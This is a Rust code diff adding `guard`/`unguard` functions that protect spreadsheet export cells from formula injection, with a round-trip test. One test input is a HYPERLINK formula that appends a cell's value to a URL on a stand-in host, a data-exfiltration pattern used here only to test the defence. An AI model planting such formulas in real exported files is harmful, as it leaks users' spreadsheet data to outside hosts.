@@ -1,4 +1,5 @@
-//! Cells for files people open in a spreadsheet (the ledger, the mailbox log).
+//! Cells for files people open in a spreadsheet (the ledger, the mailbox log, the
+//! contacts export).
 
 use std::borrow::Cow;
 
@@ -14,9 +15,56 @@ pub fn safe(text: &str) -> Cow<'_, str> {
     }
 }
 
+/// Whether a spreadsheet would take `text` for a formula, leading apostrophes aside
+/// (what [`guard`] protects and [`unguard`] recognises).
+fn looks_like_formula(text: &str) -> bool {
+    text.trim_start_matches('\'')
+        .starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// A cell of a file Tandem reads back (the contacts export): like [`safe`], and also
+/// for text that already starts with apostrophes before a formula, so that [`unguard`]
+/// gives back exactly what was written — a name like "'t Hooft" is left as it is.
+pub fn guard(text: &str) -> Cow<'_, str> {
+    if looks_like_formula(text) {
+        format!("'{text}").into()
+    } else {
+        text.into()
+    }
+}
+
+/// The cell as it was before [`guard`]: `unguard(guard(x)) == x` for every text.
+pub fn unguard(text: &str) -> &str {
+    match text.strip_prefix('\'') {
+        Some(rest) if looks_like_formula(rest) => rest,
+        _ => text,
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_guarded_cell_reads_back_as_it_was() {
+        for text in [
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
+            "@SUM(1+1)",
+            "+32 2 210 94 91",
+            "'=already quoted",
+            "''=twice",
+            "'t Hooft",
+            "'",
+            "",
+            "Désinscription",
+            "-",
+        ] {
+            assert_eq!(unguard(&guard(text)), text, "{text:?}");
+        }
+        assert_eq!(guard("@SUM(1+1)"), "'@SUM(1+1)");
+        assert_eq!(guard("'t Hooft"), "'t Hooft");
+        assert_eq!(unguard("'t Hooft"), "'t Hooft");
+    }
 
     #[test]
     fn what_came_from_outside_cannot_run_as_a_formula() {
